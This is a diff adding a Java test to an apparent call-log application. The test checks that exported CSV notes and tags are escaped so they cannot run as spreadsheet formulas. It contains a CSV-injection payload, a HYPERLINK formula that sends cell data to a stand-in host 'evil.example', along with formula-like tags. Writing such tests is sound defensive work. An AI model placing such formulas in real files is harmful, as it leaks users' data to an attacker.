@@ -5,11 +5,13 @@ import static org.assertj.core.api.Assertions.assertThat;
 import dev.switchboard.simulator.PhoneScript;
 import dev.switchboard.simulator.SimClock;
 import dev.switchboard.support.VirtualTimeCallTest;
+import java.io.StringReader;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import org.apache.commons.csv.CSVFormat;
 import org.junit.jupiter.api.Test;
 import org.springframework.boot.test.context.TestConfiguration;
 import org.springframework.context.annotation.Bean;
@@ -76,5 +78,23 @@ class CallLogReviewTest extends VirtualTimeCallTest {
         assertThat(page.body()).contains("/calls/" + id);
         assertThat(web.get("/calls/export.csv?to=9999-12-31").body()).contains(id);
         assertThat(web.get("/calls?to=10000-01-01").status()).isEqualTo(422);
+    }
+
+    @Test
+    void anExportedNoteOrTagIsNeverAFormulaWhenTheCsvIsOpenedInASpreadsheet() throws Exception {
+        newCompany("Review Export Co");
+        var id = answeredCallFrom("+17735550123");
+        var note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        var annotated = owner.patch("/api/v1/call-logs/" + id, Map.of("notes", note, "tags", List.of("@SUM(1+1)", "-2+3", "vip")));
+        assertThat(annotated.status()).as(annotated.body()).isEqualTo(200);
+        var csv = webLogin(owner.email(), "correct-horse").get("/calls/export.csv").body();
+        var row = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords().getFirst();
+        assertThat(row.get("call_id")).isEqualTo(id);
+        assertThat(row.get("notes")).as("text, not a formula").isEqualTo("'" + note);
+        assertThat(row.get("tags")).doesNotStartWith("@").contains("@SUM(1+1)");
+        // A phone number stays itself.
+        assertThat(row.get("from")).isEqualTo("+17735550123");
+        // The log itself keeps what was typed.
+        assertThat(owner.get("/api/v1/call-logs/" + id).json().get("call").get("notes").asString()).isEqualTo(note);
     }
 }
